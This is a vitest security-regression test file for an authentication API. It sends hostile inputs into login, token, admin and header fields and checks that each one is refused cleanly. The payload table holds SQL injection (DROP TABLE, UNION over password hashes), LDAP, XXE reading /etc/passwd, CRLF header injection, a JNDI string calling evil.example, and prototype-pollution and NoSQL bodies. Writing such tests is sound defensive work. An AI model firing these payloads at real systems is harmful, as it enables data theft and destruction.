/**
 * Security regressions: hostile strings in every field of every route, prototype pollution and
 * wrong JSON types (issue 2 sections 8 and 9). Bad input is never a 5xx: it is refused with
 * SPEC's error body, or, where the field is free text, handled as plain data. Afterwards the
 * users table is intact and the service healthy.
 */
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../harness/app.js';
import { bearer, expectError, login, seedUser, signIn, STRONG_PASSWORD, type SignedIn } from '../harness/fixtures.js';

type Res = Awaited<ReturnType<TestApp['app']['inject']>>;

const HOSTILE: Record<string, string> = {
  sql_or: "' OR 1=1 --",
  sql_drop: "'; DROP TABLE users; --",
  sql_union: "x' UNION SELECT password_hash FROM credentials --",
  ldap: '*)(uid=*))(|(uid=*',
  xml: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
  rtl_override: 'admin\u202Etxt.exe',
  emoji: '😀🔥👨‍👩‍👧‍👦',
  nul: 'adm\u0000in',
  lone_surrogate: 'a\uD800b',
  control: '\u0001\u001b[31m\u007f',
  crlf: 'a\r\nSet-Cookie: owned=1',
  template: '${jndi:ldap://evil.example/a}{{7*7}}%s%n',
  proto_key: '__proto__',
  very_long: 'A'.repeat(10_000),
};
const CASES = Object.entries(HOSTILE);
const len = (s: string): number => [...s].length;
const hasNul = (s: string): boolean => s.includes('\u0000');
/** What survives UTF-8 encoding (a lone surrogate becomes U+FFFD). */
const wellFormed = (s: string): string => Buffer.from(s, 'utf8').toString('utf8');
/** Every byte percent-encoded, so any string can sit in a path. */
const pct = (s: string): string => [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');

let t: TestApp;
let adminToken: SignedIn;
let usersBefore: number;

/** A 4xx with SPEC's error body and exactly this status and code. */
function refused(res: Res, status: number, code: string, label: string): void {
  expect(res.statusCode, `${label}: ${res.body}`).toBeLessThan(500);
  expectError(res, status, code);
}

const post = (url: string, payload: unknown, headers: Record<string, string> = {}) => t.app.inject({ method: 'POST', url, payload: payload as Record<string, unknown>, headers });
const get = (url: string, query: Record<string, string>, headers: Record<string, string> = {}) => t.app.inject({ method: 'GET', url, query, headers });

beforeAll(async () => {
  // Lockout is not under test here: many hostile passwords hit one account.
  t = await createTestApp({ env: { MAX_LOGIN_ATTEMPTS: '100' } });
  await seedUser(t.s, 'hostile.target', { email: 'target@bank.example' });
  await seedUser(t.s, 'hostile.admin', { roles: ['admin'] });
  adminToken = await signIn(t.app, 'hostile.admin');
  usersBefore = await t.s.users.count();
});

afterAll(async () => {
  // The users table is intact, the seeded user can still sign in, the service is healthy.
  expect(await t.s.users.count()).toBeGreaterThanOrEqual(usersBefore);
  await signIn(t.app, 'hostile.target');
  expect((await t.app.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
  await t.close();
});

describe('hostile strings in sign-in fields', () => {
  it.each(CASES)('login username %s: 401 INVALID_CREDENTIALS (or 422 when too long or holding NUL), never 5xx', async (name, v) => {
    const res = await login(t.app, v, 'Wrong#Password1');
    if (len(v) > 256 || hasNul(v)) refused(res, 422, 'VALIDATION_ERROR', name);
    else refused(res, 401, 'INVALID_CREDENTIALS', name);
  });

  it.each(CASES)('login password %s: 401 INVALID_CREDENTIALS (or 422 when too long), never 5xx', async (name, v) => {
    const res = await login(t.app, 'hostile.target', v);
    if (len(v) > 1024) refused(res, 422, 'VALIDATION_ERROR', name);
    else refused(res, 401, 'INVALID_CREDENTIALS', name);
  });

  it.each(CASES)('login device_fingerprint %s: 422 when too long or holding NUL, else an opaque value bound to the token', async (name, v) => {
    const res = await login(t.app, 'hostile.target', STRONG_PASSWORD, { device_fingerprint: v });
    if (len(v) > 256 || hasNul(v)) return refused(res, 422, 'VALIDATION_ERROR', name);
    expect(res.statusCode, `${name}: ${res.body}`).toBe(200);
    const s = res.json() as SignedIn;
    expectError(await post('/api/v1/auth/validate', undefined, bearer(s.access_token, { 'x-device-fingerprint': 'another-device' })), 401, 'FINGERPRINT_MISMATCH');
    const wrong = await login(t.app, 'hostile.target', 'Wrong#Password1', { device_fingerprint: v });
    refused(wrong, 401, 'INVALID_CREDENTIALS', name);
  });

  it.each(CASES)('refresh_token %s: 401 TOKEN_INVALID (or 422 over 8192 characters), never 5xx', async (name, v) => {
    const res = await post('/api/v1/auth/refresh', { refresh_token: v });
    if (len(v) > 8192) refused(res, 422, 'VALIDATION_ERROR', name);
    else refused(res, 401, 'TOKEN_INVALID', name);
  });

  it.each(CASES)('reset_token %s: 401 TOKEN_INVALID (or 422 over 8192 characters), never 5xx', async (name, v) => {
    const res = await post('/api/v1/auth/reset/password', { reset_token: v, new_password: 'Zp4$kWq8!nRt2&' });
    if (len(v) > 8192) refused(res, 422, 'VALIDATION_ERROR', name);
    else refused(res, 401, 'TOKEN_INVALID', name);
  });

  it.each(CASES)('change-password fields %s: 401 or 422, never 5xx', async (name, v) => {
    const s = await signIn(t.app, 'hostile.target');
    const wrongCurrent = await post('/api/v1/auth/password', { current_password: v, new_password: 'Zp4$kWq8!nRt2&' }, bearer(s.access_token));
    if (len(v) > 1024) refused(wrongCurrent, 422, 'VALIDATION_ERROR', name);
    else refused(wrongCurrent, 401, 'INVALID_CREDENTIALS', name);
    const badNew = await post('/api/v1/auth/password', { current_password: STRONG_PASSWORD, new_password: v }, bearer(s.access_token));
    if (len(v) > 1024) refused(badNew, 422, 'VALIDATION_ERROR', name);
    else refused(badNew, 422, 'PASSWORD_POLICY_VIOLATION', name);
  });
});

describe('hostile strings in administration fields', () => {
  const createUser = (body: Record<string, unknown>) => post('/api/v1/admin/users', body, bearer(adminToken.access_token));

  it.each(CASES)('admin create user username/email/phone %s: 422 VALIDATION_ERROR, never 5xx', async (name, v) => {
    refused(await createUser({ username: v, roles: ['customer'] }), 422, 'VALIDATION_ERROR', `${name} username`);
    refused(await createUser({ username: 'valid.name1', email: v, roles: ['customer'] }), 422, 'VALIDATION_ERROR', `${name} email`);
    refused(await createUser({ username: 'valid.name1', phone: v, roles: ['customer'] }), 422, 'VALIDATION_ERROR', `${name} phone`);
  });

  it.each(CASES)('admin create user roles %s: 422 UNKNOWN_ROLE (or VALIDATION_ERROR when too long), never 5xx', async (name, v) => {
    const res = await createUser({ username: 'valid.name2', roles: [v] });
    if (len(v) > 64) refused(res, 422, 'VALIDATION_ERROR', name);
    else refused(res, 422, 'UNKNOWN_ROLE', name);
  });

  it.each(CASES)('admin create user full_name %s: stored verbatim as plain data (422 when too long or holding NUL), never 5xx', async (name, v) => {
    const username = `fn.${name.replace(/_/g, '')}`.slice(0, 60);
    const res = await createUser({ username, full_name: v, roles: ['customer'] });
    if (len(v) > 200 || hasNul(v)) return refused(res, 422, 'VALIDATION_ERROR', name);
    expect(res.statusCode, `${name}: ${res.body}`).toBe(201);
    expect((res.json() as { user: { full_name: string } }).user.full_name).toBe(wellFormed(v));
    expect((await t.s.users.findByLogin(username))?.full_name).toBe(wellFormed(v));
  });

  it.each(CASES)('admin list search %s: 200 matching only real text (422 when too long or holding NUL), never 5xx', async (name, v) => {
    const res = await get('/api/v1/admin/users', { search: v, limit: '200' }, bearer(adminToken.access_token));
    if (len(v) > 100 || hasNul(v)) return refused(res, 422, 'VALIDATION_ERROR', name);
    expect(res.statusCode, `${name}: ${res.body}`).toBe(200);
    const body = res.json() as { users: Array<{ username: string; email: string | null; phone: string | null; full_name: string | null }>; next_cursor: string | null };
    // Injection must not widen the match: every hit really contains the text.
    expect(body.users.length).toBeLessThan(usersBefore);
    for (const u of body.users) expect(`${u.username} ${u.email ?? ''} ${u.phone ?? ''} ${u.full_name ?? ''}`.toLowerCase()).toContain(wellFormed(v).toLowerCase());
  });

  it.each(CASES)('admin audit query params %s: 422 VALIDATION_ERROR, never 5xx', async (name, v) => {
    for (const key of ['user_id', 'event_type', 'from', 'to', 'page', 'page_size']) {
      refused(await get('/api/v1/admin/audit', { [key]: v }, bearer(adminToken.access_token)), 422, 'VALIDATION_ERROR', `${name} ${key}`);
    }
  });

  it.each(CASES)('admin user id path parameter %s: 422 VALIDATION_ERROR (400 when over the parameter limit), never 5xx', async (name, v) => {
    const res = await post(`/api/v1/admin/users/${pct(v)}/unlock`, undefined, bearer(adminToken.access_token));
    if (v.length > 200) refused(res, 400, 'MALFORMED_REQUEST', name);
    else refused(res, 422, 'VALIDATION_ERROR', name);
  });

  it('answers an undecodable URL with 400 MALFORMED_REQUEST, SPEC body and the common headers', async () => {
    for (const raw of ['%', '%E0%A4%A', '%ED%A0%80', '%zz', '%41'.repeat(201)]) {
      const res = await post(`/api/v1/admin/users/${raw}/unlock`, undefined, bearer(adminToken.access_token));
      refused(res, 400, 'MALFORMED_REQUEST', raw);
      expect(res.headers['x-content-sha256'], raw).toBe(createHash('sha256').update(res.rawPayload).digest('hex'));
      expect(res.headers['x-frame-options'], raw).toBe('DENY');
      expect(res.headers['x-request-id'], raw).toMatch(/^[0-9a-f-]{36}$/);
    }
  });
});

describe('hostile strings in headers', () => {
  /** Values an HTTP client can put in a header at all (no CR, LF or NUL; latin-1 only). */
  const HEADER_CASES = CASES.filter(([, v]) => /^[\t\x20-\x7e\x80-\xff]*$/.test(v));

  it('has header cases to try', () => {
    expect(HEADER_CASES.length).toBeGreaterThanOrEqual(6);
  });

  it.each(HEADER_CASES)('X-Correlation-ID %s: echoed only when a plain token, request answered normally', async (name, v) => {
    const res = await login(t.app, 'hostile.target', 'Wrong#Password1', {}, { 'x-correlation-id': v });
    refused(res, 401, 'INVALID_CREDENTIALS', name);
    const plain = /^[A-Za-z0-9._:-]{1,128}$/.test(v);
    expect(res.headers['x-correlation-id']).toBe(plain ? v : res.headers['x-request-id']);
    const health = await t.app.inject({ method: 'GET', url: '/health', headers: { 'x-correlation-id': v } });
    expect(health.statusCode).toBe(200);
  });

  it.each(HEADER_CASES)('X-Device-Fingerprint %s: 401 FINGERPRINT_MISMATCH for a bound token, never 5xx', async (name, v) => {
    const s = await signIn(t.app, 'hostile.target', STRONG_PASSWORD, { device_fingerprint: 'fp-real' });
    refused(await post('/api/v1/auth/validate', undefined, bearer(s.access_token, { 'x-device-fingerprint': v })), 401, 'FINGERPRINT_MISMATCH', name);
    refused(await post('/api/v1/auth/refresh', { refresh_token: 'x' }, { 'x-device-fingerprint': v }), 401, 'TOKEN_INVALID', name);
    const viaHeader = await login(t.app, 'hostile.target', STRONG_PASSWORD, {}, { 'x-device-fingerprint': v });
    expect(viaHeader.statusCode, `${name}: ${viaHeader.body}`).toBe(200);
  });

  it.each(HEADER_CASES)('Authorization bearer %s: 401 TOKEN_INVALID, never 5xx', async (name, v) => {
    refused(await post('/api/v1/auth/validate', undefined, { authorization: `Bearer ${v}` }), 401, 'TOKEN_INVALID', name);
  });
});

describe('prototype pollution and wrong JSON types', () => {
  const raw = (url: string, payload: string, headers: Record<string, string> = {}) =>
    t.app.inject({ method: 'POST', url, payload, headers: { 'content-type': 'application/json', ...headers } });

  it('refuses a __proto__ body (prototype pollution) with 400 MALFORMED_REQUEST on every JSON route and pollutes nothing', async () => {
    const bodies = [
      `{"username":"hostile.target","password":"${STRONG_PASSWORD}","__proto__":{"admin":true,"roles":["admin"]}}`,
      '{"__proto__":{"admin":true}}',
      `{"username":"hostile.target","password":"${STRONG_PASSWORD}","constructor":{"prototype":{"admin":true}}}`,
      '{"constructor":{"prototype":{"isAdmin":true}}}',
    ];
    for (const url of ['/api/v1/auth/login', '/api/v1/auth/refresh', '/api/v1/auth/reset/password', '/api/v1/admin/users']) {
      for (const b of bodies) refused(await raw(url, b, bearer(adminToken.access_token)), 400, 'MALFORMED_REQUEST', `${url} ${b}`);
    }
    expect(({} as Record<string, unknown>).admin).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  });

  it('refuses a nested __proto__ key with 400 MALFORMED_REQUEST', async () => {
    refused(await raw('/api/v1/admin/users', '{"username":"proto.user","roles":["customer"],"x":{"__proto__":{"a":1}}}', bearer(adminToken.access_token)), 400, 'MALFORMED_REQUEST', 'nested');
  });

  it('refuses wrong JSON types with 422 VALIDATION_ERROR naming the field', async () => {
    const cases: Array<[string, unknown, string]> = [
      ['/api/v1/auth/login', { username: 12345, password: STRONG_PASSWORD }, 'username'],
      ['/api/v1/auth/login', { username: 'hostile.target', password: [STRONG_PASSWORD] }, 'password'],
      ['/api/v1/auth/login', { username: { $ne: null }, password: { $ne: null } }, 'username'],
      ['/api/v1/auth/login', { username: 'hostile.target', password: true }, 'password'],
      ['/api/v1/auth/login', { username: null, password: STRONG_PASSWORD }, 'username'],
      ['/api/v1/auth/login', { username: 'hostile.target', password: STRONG_PASSWORD, device_fingerprint: 7 }, 'device_fingerprint'],
      ['/api/v1/auth/login', { username: 'hostile.target', password: STRONG_PASSWORD, is_admin: true }, 'is_admin'],
      ['/api/v1/auth/refresh', { refresh_token: ['a', 'b'] }, 'refresh_token'],
      ['/api/v1/auth/refresh', { refresh_token: 1 }, 'refresh_token'],
      ['/api/v1/auth/reset/password', { reset_token: {}, new_password: 'x' }, 'reset_token'],
      ['/api/v1/admin/users', { username: 'typed.user', roles: 'admin' }, 'roles'],
      ['/api/v1/admin/users', { username: 'typed.user', roles: [1] }, 'roles'],
    ];
    for (const [url, payload, field] of cases) {
      const body = expectError(await post(url, payload, bearer(adminToken.access_token)), 422, 'VALIDATION_ERROR');
      expect(JSON.stringify(body.details), `${url} ${JSON.stringify(payload)}`).toContain(field);
    }
  });

  it('refuses a JSON null, array, number or string body with 422 VALIDATION_ERROR', async () => {
    for (const b of ['null', '[]', '[{"username":"hostile.target"}]', '42', '"hostile.target"', 'true']) {
      refused(await raw('/api/v1/auth/login', b), 422, 'VALIDATION_ERROR', b);
      refused(await raw('/api/v1/auth/refresh', b), 422, 'VALIDATION_ERROR', b);
    }
  });

  it('refuses a non-JSON body sent as JSON with 400 MALFORMED_REQUEST', async () => {
    for (const b of ['hostile.target', "' OR 1=1 --", '{"username":', '{username: "a"}', '<?xml version="1.0"?><x/>', '\u0000', '{"a":1}{"b":2}']) {
      refused(await raw('/api/v1/auth/login', b), 400, 'MALFORMED_REQUEST', JSON.stringify(b));
    }
  });

  it('refuses an empty body sent as JSON with 400 MALFORMED_REQUEST', async () => {
    refused(await raw('/api/v1/auth/login', ''), 400, 'MALFORMED_REQUEST', 'empty');
  });

  it('refuses a body of another content type with 415 UNSUPPORTED_MEDIA_TYPE', async () => {
    const res = await t.app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: '<login><username>a</username></login>', headers: { 'content-type': 'application/xml' } });
    refused(res, 415, 'UNSUPPORTED_MEDIA_TYPE', 'xml');
  });

  it('refuses deeply nested JSON without a 5xx', async () => {
    const deep = `{"username":"a","password":"b","x":${'['.repeat(5000)}${']'.repeat(5000)}}`;
    const res = await raw('/api/v1/auth/login', deep);
    expect(res.statusCode, res.body).toBeLessThan(500);
    expectError(res, 422, 'VALIDATION_ERROR');
  });
});

describe('after the barrage', () => {
  it('keeps the users table intact and the seeded user able to sign in', async () => {
    const tables = await t.s.database.db.selectFrom('users').select(['username']).where('username', 'in', ['hostile.target', 'hostile.admin']).execute();
    expect(tables.map((r) => r.username).sort()).toEqual(['hostile.admin', 'hostile.target']);
    await signIn(t.app, 'hostile.target');
    expect((await t.app.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
  });
});
